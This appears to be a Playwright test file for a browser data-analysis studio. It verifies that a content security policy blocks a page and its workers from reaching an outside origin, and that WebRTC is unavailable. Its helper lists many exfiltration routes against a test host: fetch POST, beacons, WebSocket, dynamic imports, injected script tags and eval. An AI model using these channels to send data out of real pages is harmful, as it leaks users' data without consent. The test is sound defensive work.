import { expect, test } from "./support/studio-test.ts";
import { openTable, sample, seeTrained } from "./support/user.ts";

test.use({ probesPolicy: true });

/** Every way out that a script has. What the calls return is no proof (sendBeacon says true): arrivals are. */
const breakOut = async (origin: string) => {
  const tries: (() => unknown)[] = [
    () => fetch(`${origin}/fetch`, { method: "POST", body: "rows", mode: "no-cors" }),
    () => import(/* @vite-ignore */ `${origin}/module.js`),
    () => new WebSocket(origin.replace("http", "ws")),
    () => new EventSource(`${origin}/events`),
    () => navigator.sendBeacon?.(`${origin}/beacon`, "rows"),
    () => (globalThis as { importScripts?: (url: string) => void }).importScripts?.(`${origin}/script.js`),
    () => Object.assign(new Image(), { src: `${origin}/image` }),
    () => document.head.append(Object.assign(document.createElement("script"), { src: `${origin}/tag.js` })),
    () => new Function("return 1")(),
  ];
  const outcomes: string[] = [];
  for (const attempt of tries)
    outcomes.push(
      await Promise.resolve()
        .then(attempt)
        .then(String, (error: Error) => error.name),
    );
  return outcomes;
};

test("nothing gets out of the page or of any worker, and the tries are reported and counted", async ({
  page,
  studio,
  outsider,
}) => {
  await openTable(page, sample("iris"));
  await seeTrained(page, ["Neural net"]);
  await expect(page.getByRole("button", { name: /^0 outside requests/ })).toBeVisible();
  const workers = page.workers();
  expect(workers.length, "reading and training have workers of their own").toBeGreaterThanOrEqual(2);
  const before = studio.reports.hits.length;
  await page.evaluate(breakOut, outsider.origin);
  for (const worker of workers) await worker.evaluate(breakOut, outsider.origin);
  await expect.poll(() => studio.reports.hits.length - before).toBeGreaterThan(workers.length + 1);
  await expect(page.getByRole("button", { name: /^[1-9]\d* outside requests/ })).toBeVisible();
});

test("the page has no way to open a peer connection, which no policy would stop", async ({ page }) => {
  await page.goto("./");
  const constructors = await page.evaluate(() =>
    ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"].filter((name) => name in globalThis),
  );
  expect(constructors).toEqual([]);
  for (const worker of page.workers())
    expect(await worker.evaluate(() => "RTCPeerConnection" in globalThis)).toBe(false);
});
